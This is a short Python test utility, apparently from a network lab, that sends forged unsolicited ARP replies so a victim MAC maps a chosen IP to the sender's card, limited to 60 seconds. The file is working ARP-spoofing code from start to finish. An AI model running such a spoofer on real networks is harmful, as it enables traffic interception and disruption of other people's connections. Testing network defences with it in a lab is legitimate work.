"""Forged ARP replies from a VM of a lab: ``python -m tests.forger ADDRESS VICTIM SECONDS``, five a second.

VICTIM, a MAC address, is told that ADDRESS is at this VM's own card. Bounded in time.
"""

from __future__ import annotations

import socket
import sys
import time
from pathlib import Path

from dpkt import arp, ethernet

CARD = "eth0"
MOST_SECONDS = 60.0


def octets(mac: str) -> bytes:
    """A MAC address as it is on the wire."""
    return bytes.fromhex(mac.replace(":", ""))


def forged(own: bytes, address: str, victim: bytes) -> bytes:
    """An ARP reply that nobody has asked for."""
    said = arp.ARP(op=arp.ARP_OP_REPLY, sha=own, spa=socket.inet_aton(address), tha=victim, tpa=bytes(4))
    return bytes(ethernet.Ethernet(dst=victim, src=own, type=ethernet.ETH_TYPE_ARP, data=said))


def main(address: str, victim: str, seconds: float) -> None:
    """Send until the time is over."""
    own = octets(Path(f"/sys/class/net/{CARD}/address").read_text().strip())
    frame = forged(own, address, octets(victim))
    until = time.monotonic() + min(seconds, MOST_SECONDS)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((CARD, 0))
        while time.monotonic() < until:
            wire.send(frame)
            time.sleep(0.2)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
